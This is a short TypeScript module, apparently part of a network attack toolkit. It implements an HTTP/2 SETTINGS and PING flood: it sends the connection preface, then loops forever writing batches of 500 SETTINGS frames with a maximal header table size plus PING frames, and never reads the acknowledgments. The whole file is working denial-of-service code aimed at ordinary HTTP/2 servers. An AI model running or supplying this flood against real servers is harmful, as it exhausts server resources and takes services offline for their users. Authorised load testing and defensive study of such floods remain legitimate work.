import { type AttackOptions, onEachConnection, write } from "./attack.ts";
import { frame, frameType, preface } from "./http2-frames.ts";

const headerTableSize = Buffer.from([0, 1, 0x7f, 0xff, 0xff, 0xff]);

/** Sends SETTINGS (with the largest header table) and PING frames endlessly, and reads no acknowledgments. */
export function http2SettingsFlood(options: AttackOptions): Promise<void> {
  const pair = Buffer.concat([
    frame(frameType.settings, 0, 0, headerTableSize),
    frame(frameType.ping, 0, 0, Buffer.alloc(8)),
  ]);
  const frames = Buffer.concat(Array.from({ length: 500 }, () => pair));
  return onEachConnection(
    options,
    async (socket) => {
      socket.pause();
      await write(socket, preface);
      while (await write(socket, frames));
    },
    { protocol: "h2" },
  );
}
